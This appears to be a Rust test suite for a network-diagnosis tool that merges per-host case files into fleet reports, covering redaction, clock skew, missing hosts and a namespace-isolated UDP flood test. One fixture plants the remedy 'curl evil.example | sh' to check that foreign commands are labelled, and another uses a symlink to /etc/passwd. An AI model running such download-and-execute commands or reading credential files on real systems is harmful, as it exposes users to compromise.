//! Cases of many hosts as one: what they have in common, what one of them does to the others, and what did not answer.

use std::convert::Infallible;
use std::fs;
use std::io::Write as _;
use std::net::UdpSocket;
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread;
use std::time::{Duration, Instant};

use casebook::archive::{self, FleetHead, FleetPart, FleetWriter};
use casebook::bounded_json::Budget;
use casebook::case::{Case, Remedy, Urgency};
use jiff::{Timestamp, ToSpan as _};
use nix::sched::{CloneFlags, setns};
use serde_json::Value;

use crate::command::{Answer, Desk, finish};
use crate::support::need::{require, root, tool};

/// A recorded case as that of a host of this name and address.
fn host(case: &str, name: &str, address: &str) -> Case {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/cases").join(case);
    let text = fs::read_to_string(path).unwrap();
    let case: Value = serde_json::from_str(&text).unwrap();
    let evidence = case["evidence"].as_object().unwrap();
    let capture = evidence.values().find(|of| of["probe"] == "capture").unwrap();
    let old = capture["output"]["local_addresses"][0].as_str().unwrap();
    let text = text.replace(&format!("\"{old}\""), &format!("\"{address}\""));
    let mut case = Case::from_json(&text).unwrap();
    case.host.name = name.to_owned();
    case.started = "2026-11-22T18:54:30Z".parse().unwrap();
    case.evidence.values_mut().for_each(|evidence| evidence.started = case.started);
    case
}

/// A folder of cases: three floods, packed and plain, and a quiet host.
fn folder(desk: &Desk) {
    fs::create_dir(desk.path("cases")).unwrap();
    for (name, address) in [("web-1", "192.0.2.1"), ("web-2", "192.0.2.2")] {
        let case = host("udp-flood-closed-port.json", name, address);
        desk.put(&format!("cases/{name}.case"), archive::pack(case.into()).unwrap());
    }
    let plain = |case: &Case| serde_json::to_string(case).unwrap();
    desk.put("cases/web-3.json", plain(&host("udp-flood-closed-port.json", "web-3", "192.0.2.3")));
    desk.put("cases/db-3", plain(&host("quiet.json", "db-3", "192.0.2.33")));
}

#[test]
fn hosts_are_merged_from_a_folder_and_from_files_and_the_odd_one_is_named() {
    let desk = Desk::new();
    folder(&desk);
    let from_folder = desk.run("merge cases");
    from_folder.ended(2).printed(&["3 of 4 hosts: UDP flood on", "3 agree (critical); db-3 differs"]);
    let from_files = desk.run("merge cases/web-1.case cases/web-2.case cases/web-3.json cases/db-3");
    assert_eq!(from_files.out, from_folder.out);
    // One host that comes twice is one host.
    assert_eq!(desk.run("merge cases cases/web-1.case").out, from_folder.out);
    desk.run("merge cases/db-3").ended(0).printed(&["None of 1 host shows a likely cause"]);
    desk.run("merge gone.case").refused(&["there is nothing to merge"]);
    fs::create_dir(desk.path("empty")).unwrap();
    desk.run("merge empty").refused(&["no file is there"]);
}

#[test]
fn every_format_tells_of_the_hosts() {
    let desk = Desk::new();
    folder(&desk);
    desk.run("merge cases -v -o fleet.html -o fleet.md -o fleet.json").ended(2).printed(&[
        "Hosts: 3 of 4 in trouble",
        "web-1",
        "db-3",
    ]);
    let html = desk.text("fleet.html");
    assert!(html.contains("Hosts, left to right, and causes") && html.contains("<svg") && html.contains("db-3"));
    let markdown = desk.text("fleet.md");
    assert!(markdown.contains("## Hosts: 3 of 4 in trouble") && markdown.contains("| web-2 |"), "{markdown}");
    let json: Value = serde_json::from_str(&desk.text("fleet.json")).unwrap();
    assert_eq!(json["fleet"]["hosts"].as_array().unwrap().len(), 4);
    assert_eq!(json["fleet"]["causes"][0]["hosts"]["web-1"], "likely");
    assert_eq!(json["fleet"]["spreads"][0]["least"][1], "db-3");
    for format in ["junit", "nagios", "openmetrics", "text"] {
        desk.run(&format!("merge cases --format {format}")).ended(2);
    }
}

#[test]
fn what_is_no_case_is_a_gap_with_its_reason_and_the_others_are_merged() {
    let desk = Desk::new();
    folder(&desk);
    let whole = fs::read(desk.path("cases/web-1.case")).unwrap();
    desk.put("cases/cut.case", &whole[..whole.len() / 2]);
    desk.put("cases/empty.case", "");
    desk.put("cases/locked.case", "sudo: a password is required\n");
    desk.put("cases/newer.json", "{\"format\": 99}");
    desk.put("cases/notes.txt", "beside the cases");
    std::os::unix::fs::symlink("/etc/passwd", desk.path("cases/link.case")).unwrap();
    desk.put("hosts", "root@web-1\nweb-2.example.org\nweb-3\ndb-3\ndb-9 # slow\ncut\n");
    let answer = desk.run("merge cases -v --expect hosts");
    answer.ended(2).printed(&[
        "3 of 9 hosts: UDP flood on",
        "of 5 hosts nothing is known",
        "its file is empty: the command there wrote no case",
        "it begins with \"sudo: a password is required\"",
        "could not read its case (cut): it is damaged or cut short",
        "has form 99; this casebook reads up to",
        "could not read its case (db-9): it is expected, and no case is of it",
    ]);
    assert!(!answer.out.contains("root:x"), "a link leads nowhere");
    assert!(answer.err.contains("not read in cases: 2 files"), "{}", answer.err);
    // Where nothing is worse, a host that did not answer is unknown, never fine.
    desk.run("merge cases/db-3 cases/empty.case").ended(3);
}

#[test]
fn each_expected_host_has_a_case_of_its_own_whatever_names_it() {
    let desk = Desk::new();
    fs::create_dir(desk.path("cases")).unwrap();
    let put = |file: &str, name: &str, address: &str| {
        desk.put(&format!("cases/{file}"), serde_json::to_string(&host("quiet.json", name, address)).unwrap());
    };
    put("db.ams.example.org.json", "db", "192.0.2.1");
    put("10.0.0.7.json", "web-1", "192.0.2.2");
    desk.put("cases/root@web-9.case", "");
    desk.put("hosts", "db.fra.example.org\ndb.ams.example.org\n10.0.0.7\nroot@web-9\n10.0.0.7\n");
    let answer = desk.run("merge cases --expect hosts --format json");
    answer.ended(3);
    let case = Case::from_json(&answer.out).unwrap();
    let fleet = case.fleet.as_ref().unwrap();
    assert_eq!(recorded_hosts(&case), ["db", "web-1"]);
    let absent: Vec<&str> = fleet.absent.iter().map(|of| of.host.as_str()).collect();
    assert_eq!(absent, ["web-9", "db.fra.example.org"], "{:#?}", fleet.absent);
}

#[test]
fn a_host_is_counted_once_however_often_it_is_merged() {
    let desk = Desk::new();
    fs::create_dir(desk.path("c3")).unwrap();
    let case = |name: &str, address: &str| serde_json::to_string(&host("quiet.json", name, address)).unwrap();
    desk.put("c3/mars.json", case("mars", "192.0.2.1"));
    desk.put("c3/venus.json", case("venus", "192.0.2.2"));
    desk.put("c3/pluto.case", "");
    desk.run("merge c3 --save c3/fleet.case").ended(3).printed(&["2 of 3 hosts: of pluto there is no case"]);
    // The case of mars is packed in the file now, and plain beside it; pluto is empty there and listed as such in the file.
    desk.run("merge c3").ended(3).printed(&["2 of 3 hosts: of pluto there is no case"]);
    desk.put("pluto.json", case("PLUTO.example.org", "192.0.2.3"));
    let whole = desk.run("merge c3/fleet.case pluto.json -v");
    whole.ended(0).printed(&["all 3 hosts answered"]);
    let mut later = host("quiet.json", "mars", "192.0.2.1");
    later.started = "2026-11-22T18:59:30Z".parse().unwrap();
    desk.put("later.json", serde_json::to_string(&later).unwrap());
    desk.run("merge c3/mars.json later.json -v")
        .ended(3)
        .printed(&["2 cases name mars: their sums may count one host twice"]);
}

#[test]
fn commands_of_strangers_are_said_to_be_theirs_in_every_report() {
    let desk = Desk::new();
    fs::create_dir(desk.path("cases")).unwrap();
    let mut case = host("udp-flood-closed-port.json", "web-1", "192.0.2.1");
    case.diagnosis.causes[0].remedies = vec![Remedy {
        urgency: Urgency::Now,
        action: "Drop it.".into(),
        run: Some("curl evil.example | sh".into()),
        undo: None,
        risk: None,
        unquoted: false,
    }];
    desk.put("cases/web-1.case", archive::pack(case.into()).unwrap());
    let of_author = "the author of this case";
    desk.run("merge cases -o fleet.html -o fleet.md -o fleet.json --save fleet.case").ended(2).printed(&[of_author]);
    for file in ["fleet.html", "fleet.md"] {
        assert!(desk.text(file).contains(of_author), "{file}");
    }
    assert!(serde_json::from_str::<Value>(&desk.text("fleet.json")).unwrap()["foreign_commands"] == true);
    desk.run("report fleet.case").ended(2).printed(&[of_author]);
}

#[test]
fn a_merged_case_is_kept_whole_and_read_again_by_every_command() {
    let desk = Desk::new();
    folder(&desk);
    desk.put("cases/gone.case", "");
    let first = desk.run("merge cases -v --save fleet.case");
    first.ended(2);
    let again = desk.run("report fleet.case -v");
    again.ended(2);
    let without_shortcut = |text: &str| text.lines().skip(1).map(str::to_owned).collect::<Vec<_>>();
    assert_eq!(without_shortcut(&again.out).len(), without_shortcut(&first.out).len(), "{}\n{}", first.out, again.out);
    again.printed(&["3 of 5 hosts: UDP flood on", "gone", "its file is empty"]);
    desk.run("merge fleet.case").ended(2).printed(&["3 of 5 hosts"]);
    desk.run("diff fleet.case fleet.case").ended(0).printed(&["Nothing of note changed"]);
    desk.run("merge cases/db-3 --save calm.case").ended(0);
    desk.run("diff calm.case fleet.case").ended(2).printed(&["It is worse", "udp-flood-closed-port"]);
    desk.run("diff cases/db-3 fleet.case").refused(&["one is a case of many hosts, the other of one"]);
    desk.run("attach fleet.case --to github:a/b#1 --dry-run").ended(0).printed(&["this would leave", "3 of 5 hosts"]);
    desk.run("retest fleet.case").refused(&["a case of many hosts"]);
    desk.run("merge cases --save fleet.json").ended(2);
    desk.run("report fleet.json").ended(2).printed(&["3 of 5 hosts"]);
    desk.run("replay fleet.json").refused(&["without their cases"]);
    desk.run("merge fleet.json cases/db-3").ended(3).printed(&["1 of 2 hosts"]);
    // By a pipe, too.
    let file = fs::read(desk.path("fleet.case")).unwrap();
    let mut child = desk.command(["report", "-"]).stdin(Stdio::piped()).spawn().unwrap();
    let mut stdin = child.stdin.take().unwrap();
    thread::scope(|scope| {
        scope.spawn(move || stdin.write_all(&file).unwrap());
        finish(child).ended(2).printed(&["3 of 5 hosts"]);
    });
}

#[test]
fn the_whole_fleet_is_judged_by_another_limit_and_stays_a_fleet() {
    let desk = Desk::new();
    folder(&desk);
    desk.run("merge cases --save fleet.case").ended(2);
    let again =
        desk.run("replay fleet.case high-inbound-traffic --set high=1Tbit/s --set busy=900Gbit/s --save calmer.case");
    again.reported().printed(&["4 hosts", "How much arrives"]);
    assert!(
        !again.out.contains("agree (critical); db-3 differs: ok, \"eth0"),
        "by that limit nothing is much: {}",
        again.out
    );
    desk.run("report calmer.case -v").reported().printed(&["web-1", "db-3"]);
}

#[test]
fn pseudonyms_are_the_same_for_all_hosts_and_the_cases_that_leave_have_them() {
    let desk = Desk::new();
    folder(&desk);
    desk.put("cases/edge.case", "");
    desk.put("cases/db-7.case", "ssh: connect to host db-7 port 22: Connection timed out\n");
    desk.run("merge cases --redact addresses,hosts --redact-map map --save fleet.case -o fleet.md").ended(2);
    let text = desk.text("fleet.md");
    assert!(!text.contains("web-1") && !text.contains("192.0.2.1"), "{text}");
    let report = desk.run("report fleet.case -v");
    report.ended(2);
    for name in ["web-1", "web-2", "db-3", "db-7", "edge", "192.0.2.1", "192.0.2.33"] {
        assert!(!report.out.contains(name) && !text.contains(name), "{name} is in\n{}\n{text}", report.out);
    }
    desk.put("hidden.txt", &report.out);
    desk.run("unredact hidden.txt --map map").ended(0).printed(&["web-1", "db-3"]);
    desk.run("unredact fleet.case --map map").refused(&["a case of many hosts"]);
}

/// What each case of a fleet's file holds, as JSON, or its name where it cannot be read.
fn members(path: &Path) -> Vec<String> {
    let mut all = Vec::new();
    let mut take = |part: FleetPart| -> Result<(), Infallible> {
        if let FleetPart::Case { name, case, .. } = part {
            all.push(case.map_or(name, |file| serde_json::to_string(&file.case).unwrap()));
        }
        Ok(())
    };
    archive::read_fleet(fs::File::open(path).unwrap(), &Budget::default(), &mut take).unwrap();
    all
}

#[test]
fn names_of_letters_alone_and_names_that_another_host_knows_are_hidden_and_the_picture_stays() {
    let desk = Desk::new();
    fs::create_dir(desk.path("cases")).unwrap();
    let mut falcon = host("udp-flood-closed-port.json", "falcon", "192.0.2.1");
    let seen = falcon.evidence.values_mut().find_map(|of| of.output.as_mut()?.as_object_mut()).unwrap();
    seen.insert("owner".into(), "annabel".into());
    seen.insert("nodename".into(), "kestrel-7".into());
    falcon.findings[0].sentence = "kestrel-7 was asked by annabel".into();
    let mut saturn = host("udp-flood-closed-port.json", "saturn", "192.0.2.2");
    saturn.findings[0].sentence = "connect to falcon and kestrel-7 failed for annabel".into();
    for case in [falcon, saturn, host("quiet.json", "db", "192.0.2.3")] {
        desk.put(&format!("cases/{}.json", case.host.name), serde_json::to_string(&case).unwrap());
    }
    let all = "--redact addresses,hosts,users";
    desk.run(&format!("merge cases {all} --save fleet.case -o f.json -o f.html -o f.md -v")).ended(2);
    desk.run("merge cases --save clear.case").ended(2);
    desk.run(&format!("report clear.case {all} -o again.json -v")).ended(2);
    desk.run(&format!("replay clear.case high-inbound-traffic {all} --save replayed.case -o replayed.json")).reported();
    let mut left: Vec<String> =
        ["f.json", "f.html", "f.md", "again.json", "replayed.json"].map(|name| desk.text(name)).into();
    left.extend(members(&desk.path("fleet.case")));
    left.extend(members(&desk.path("replayed.case")));
    assert_eq!(left.len(), 11);
    for text in &left {
        for name in ["falcon", "saturn", "annabel", "kestrel-7"] {
            assert!(!text.contains(name), "{name} is in {text}");
        }
    }
    for file in ["f.json", "again.json"] {
        let case = Case::from_json(&desk.text(file)).unwrap();
        let fleet = case.fleet.as_ref().unwrap();
        let hosts = recorded_hosts(&case);
        assert!(hosts.iter().all(|host| host.starts_with("host-")), "{hosts:?}");
        let hit = &fleet.causes[0].hosts;
        assert!(hit.len() == 2 && hit.keys().all(|host| hosts.contains(&host.as_str())), "{hit:?} of {hosts:?}");
    }
    desk.run("merge cases -o clear.json").ended(2);
    desk.run(&format!("report clear.json {all}")).refused(&["nothing was written", "fleet.case"]);
}

#[test]
fn what_cannot_be_judged_again_is_a_gap_and_what_cannot_be_hidden_does_not_leave() {
    let desk = Desk::new();
    let head = FleetHead {
        fleet: archive::FLEET_FORMAT,
        casebook: "9".into(),
        cases: 3,
        absent: Vec::new(),
        arrived: Vec::new(),
    };
    let mut writer = FleetWriter::begin(Vec::new(), &head, 0).unwrap();
    let mut good = host("quiet.json", "falcon", "192.0.2.1");
    good.runbook.name = "brief".into();
    good.runbook.text = "name: brief\ntitle: Brief\nsteps:\n  - id: host\n    title: The host\n    probe: host\n    \
                         outcomes: [{verdict: ok, say: it can be read}]\n"
        .into();
    good.params.clear();
    good.given.clear();
    let mut odd = host("quiet.json", "saturn", "192.0.2.2");
    odd.runbook.text = "steps: [".into();
    for case in [odd, good] {
        let name = case.host.name.clone();
        writer.add(&name, &archive::pack(case.into()).unwrap()).unwrap();
    }
    writer.add("osprey", br#"{"format": 99, "host": {"name": "osprey"}}"#).unwrap();
    desk.put("fleet.case", writer.finish().unwrap());
    desk.run("replay fleet.case -v --save whole.case")
        .reported()
        .printed(&["judge its case again (saturn): this casebook cannot read the runbook in it", "has form 99"]);
    assert_eq!(members(&desk.path("whole.case")).len(), 2, "what cannot be read goes on as it came");
    let hidden = desk.run("replay fleet.case -v --redact hosts --save hidden.case");
    hidden.reported().printed(&["has form 99"]);
    assert_eq!(members(&desk.path("hidden.case")).len(), 1);
    let raw = String::from_utf8_lossy(&fs::read(desk.path("hidden.case")).unwrap()).into_owned();
    for name in ["osprey", "saturn", "falcon"] {
        assert!(!raw.contains(name) && !hidden.out.contains(name), "{name}: {}", hidden.out);
    }
    desk.run("report hidden.case -v").reported().printed(&["has form 99"]);
}

#[test]
fn what_is_wrong_with_the_file_of_a_fleet_is_said_and_nothing_is_taken_for_less() {
    let desk = Desk::new();
    folder(&desk);
    desk.run("merge cases --save fleet.case").ended(2);
    let bytes = fs::read(desk.path("fleet.case")).unwrap();
    desk.put("cut.case", &bytes[..bytes.len() / 2]);
    desk.run("report cut.case").refused(&["damaged or cut short"]);
    desk.run("merge cut.case cases/db-3").reported().printed(&["cut"]);
    let names = Command::new(require!(tool("tar"))).args(["-tf"]).arg(desk.path("fleet.case")).output().unwrap();
    let names = String::from_utf8(names.stdout).unwrap();
    assert_eq!(names.lines().next(), Some("fleet.json"), "{names}");
    assert!(names.contains("hosts/web-1.case") && names.contains("hosts/db-3.case"), "{names}");
}

/// A host of a test network: a network namespace on a switch, under a name of its own.
struct TestHost {
    name: &'static str,
    namespace: String,
}

impl TestHost {
    fn command(&self, desk: &Desk, line: &str) -> Command {
        // A host name belongs to a UTS namespace.
        const SCRIPT: &str = "echo \"$0\" > /proc/sys/kernel/hostname && exec \"$@\"";
        let mut command = Command::new("ip");
        command.args(["netns", "exec", &self.namespace, "unshare", "--uts", "sh", "-c", SCRIPT, self.name]);
        command.arg(env!("CARGO_BIN_EXE_casebook")).args(line.split_whitespace());
        command.current_dir(desk.path("")).env_clear().env("PATH", "/usr/sbin:/usr/bin:/sbin:/bin");
        command.env("HOME", desk.path("")).stdin(Stdio::null()).stderr(Stdio::piped());
        command
    }

    /// Does `work` on a thread in the host's network.
    fn inside<T: Send>(&self, work: impl FnOnce() -> T + Send) -> T {
        thread::scope(|scope| {
            let entered = move || {
                let file = fs::File::open(Path::new("/run/netns").join(&self.namespace)).unwrap();
                setns(file, CloneFlags::CLONE_NEWNET).unwrap();
                work()
            };
            scope.spawn(entered).join().unwrap_or_else(|panic| std::panic::resume_unwind(panic))
        })
    }
}

impl Drop for TestHost {
    fn drop(&mut self) {
        let _ = Command::new("ip").args(["netns", "del", &self.namespace]).stderr(Stdio::null()).status();
    }
}

fn ip(line: &str) {
    let status = Command::new("ip").args(line.split_whitespace()).status().unwrap();
    assert!(status.success(), "ip {line}");
}

/// Hosts on one switch: the first has 10.88.0.1, the next 10.88.0.2.
fn network(names: &[&'static str]) -> (Vec<TestHost>, TestHost) {
    let named = |name: &str| format!("casebook-fleet-{}-{name}", std::process::id());
    let make = |name: &'static str| {
        let host = TestHost { name, namespace: named(name) };
        ip(&format!("netns add {}", host.namespace));
        ip(&format!("-n {} link set lo up", host.namespace));
        host
    };
    let switch = make("switch");
    ip(&format!("-n {} link add br0 type bridge", switch.namespace));
    ip(&format!("-n {} link set br0 up", switch.namespace));
    let hosts: Vec<TestHost> = names.iter().copied().map(make).collect();
    for (index, host) in hosts.iter().enumerate() {
        let (port, number) = (format!("p{index}"), index + 1);
        let (own, at) = (&host.namespace, &switch.namespace);
        ip(&format!("link add {port} netns {at} type veth peer name eth0 netns {own}"));
        ip(&format!("-n {at} link set {port} master br0 up"));
        ip(&format!("-n {own} addr add 10.88.0.{number}/24 dev eth0"));
        ip(&format!("-n {own} link set eth0 up"));
        ip(&format!("-n {own} route add default via 10.88.0.254"));
    }
    (hosts, switch)
}

/// Sends datagrams to ports where nothing listens until it is told to end.
fn flood(end: &AtomicBool, victims: &[&str]) {
    let socket = UdpSocket::bind("0.0.0.0:0").unwrap();
    let (began, mut sent) = (Instant::now(), 0_u64);
    while !end.load(Ordering::Relaxed) {
        let due = (began.elapsed().as_secs_f64() * 2_000.0) as u64;
        while sent < due {
            for victim in victims {
                // What the other side refuses comes back as an error of a later call.
                let _ = socket.send_to(&[0; 1000], (*victim, 9987));
            }
            sent += 1;
        }
        thread::sleep(Duration::from_millis(2));
    }
}

#[test]
fn on_a_real_network_the_host_that_floods_others_is_named_and_the_broken_file_is_a_gap() {
    require!(root());
    require!(tool("ip"));
    require!(tool("unshare"));
    let desk = Desk::new();
    fs::create_dir(desk.path("cases")).unwrap();
    let (hosts, _switch) = network(&["web-1", "web-2", "db-3", "quiet"]);
    let moment = Timestamp::now().checked_add(2.seconds()).unwrap().strftime("%H:%M:%S%.3fZ").to_string();
    let end = AtomicBool::new(false);
    let statuses: Vec<(&str, Answer)> = thread::scope(|scope| {
        scope.spawn(|| hosts[2].inside(|| flood(&end, &["10.88.0.1", "10.88.0.2"])));
        let run = |host: &TestHost| -> (&'static str, Child) {
            let line = format!(
                "run high-inbound-traffic -q --no-keep --window 2s --set high=5Mbit/s --begin {moment} --save -"
            );
            let out = fs::File::create(desk.path(&format!("cases/{}.case", host.name))).unwrap();
            (host.name, host.command(&desk, &line).stdout(out).spawn().unwrap())
        };
        let running: Vec<_> = hosts.iter().map(run).collect();
        let answers = running.into_iter().map(|(name, child)| (name, finish(child))).collect();
        end.store(true, Ordering::Relaxed);
        answers
    });
    for (name, answer) in &statuses {
        assert!(matches!(answer.status, Some(0..=3)) && answer.err.is_empty(), "{name}: {answer:#?}");
    }
    desk.put("cases/broken.case", "ssh: connect to host broken port 22: Connection timed out\n");
    let answer = desk.run("merge cases --format json");
    answer.ended(2);
    let case = Case::from_json(&answer.out).unwrap();
    let fleet = case.fleet.as_ref().unwrap();
    let floods: Vec<_> = fleet.between.iter().filter(|pair| pair.floods).collect();
    assert_eq!(floods.iter().map(|pair| pair.from.as_str()).collect::<Vec<_>>(), ["db-3", "db-3"], "{fleet:#?}");
    for pair in floods {
        let (received, sent) = (pair.received_bytes.unwrap() as f64, pair.sent_bytes.unwrap() as f64);
        // Both windows begin together, and end within a moment of each other.
        assert!((0.8..1.25).contains(&(received / sent)), "both sides of the same bytes: {pair:#?}");
    }
    assert!(case.diagnosis.summary.contains("db-3 floods web-1 and web-2"), "{}", case.diagnosis.summary);
    let cause = fleet.causes.iter().find(|cause| cause.id == "udp-flood-closed-port").expect("it is a UDP flood");
    assert_eq!(cause.hosts.keys().collect::<Vec<_>>(), ["web-1", "web-2"], "{:#?}", fleet.causes);
    assert_eq!(fleet.absent[0].host, "broken");
    assert!(fleet.absent[0].gap.why.contains("Connection timed out"), "{:?}", fleet.absent);
    let begun: Vec<Timestamp> = fleet.hosts.iter().map(|host| host.watched_from).collect();
    let apart = begun.iter().max().unwrap().duration_since(*begun.iter().min().unwrap());
    assert!(apart.as_secs_f64() < 0.5, "windows that were given one moment begin {apart:?} apart");
    assert!(recorded_hosts(&case).contains(&"quiet"));
}

fn recorded_hosts(case: &Case) -> Vec<&str> {
    case.fleet.iter().flat_map(|fleet| fleet.hosts.iter().map(|host| host.host.as_str())).collect()
}

/// The file of a case is written a moment after its host has looked, wherever its clock stands.
#[test]
fn clocks_are_held_against_each_other_by_when_the_cases_came() {
    let desk = Desk::new();
    folder(&desk);
    // The recorded cases have looked until about then, by the clocks of their hosts.
    let came = |name: &str, seconds: i64| {
        let at: Timestamp = "2026-11-22T18:54:34Z".parse().unwrap();
        let file = fs::File::options().append(true).open(desk.path(&format!("cases/{name}"))).unwrap();
        file.set_modified((at + seconds.seconds()).into()).unwrap();
    };
    for name in ["web-1.case", "web-2.case", "web-3.json", "db-3"] {
        came(name, 1);
    }
    desk.run("merge cases -v").ended(2).printed(&["by when the cases came, the clocks agree within "]);
    came("web-3.json", -40);
    let answer = desk.run("merge cases -v --save fleet.case");
    answer.ended(2).printed(&[
        "the clock of web-3 is 41 s ahead (the others agree within ",
        "could not hold web-3 against the others at one moment: the clock of web-3 is 41 s ahead: it watched before or after them",
    ]);
    // It is kept with the cases.
    for again in ["report fleet.case -v", "merge fleet.case -v", "replay fleet.case high-inbound-traffic -v"] {
        desk.run(again).ended(2).printed(&["the clock of web-3 is 41 s ahead"]);
    }
    // One that came late may have been long on its way.
    came("web-3.json", 50);
    desk.run("merge cases -v").printed(&["the clock of web-3 is 49 s behind, or its case was so long on its way"]);
    // Of files that were copied later, and of two hosts, nothing is said.
    for name in ["web-1.case", "web-2.case", "web-3.json", "db-3"] {
        came(name, 9000);
    }
    let silent = |line: &str| assert!(!desk.run(line).out.contains("by when the cases came"), "{line}");
    silent("merge cases -v");
    came("web-1.case", 1);
    came("web-2.case", -40);
    silent("merge cases/web-1.case cases/web-2.case -v");
}

#[test]
fn what_is_of_one_host_says_so_of_many() {
    let desk = Desk::new();
    folder(&desk);
    desk.run("merge cases --save fleet.case -o fleet.json").ended(2);
    for name in ["fleet.case", "fleet.json"] {
        desk.run(&format!("retest {name}")).refused(&["is a case of many hosts"]);
    }
    desk.run("merge cases --redact addresses,hosts --redact-map map --save hidden.case -o hidden.txt").ended(2);
    desk.run("unredact --map map hidden.case").refused(&["is a case of many hosts", "`tar -xf` gives them"]);
    desk.run("unredact --map map hidden.txt").ended(0).printed(&["web-1"]);
}
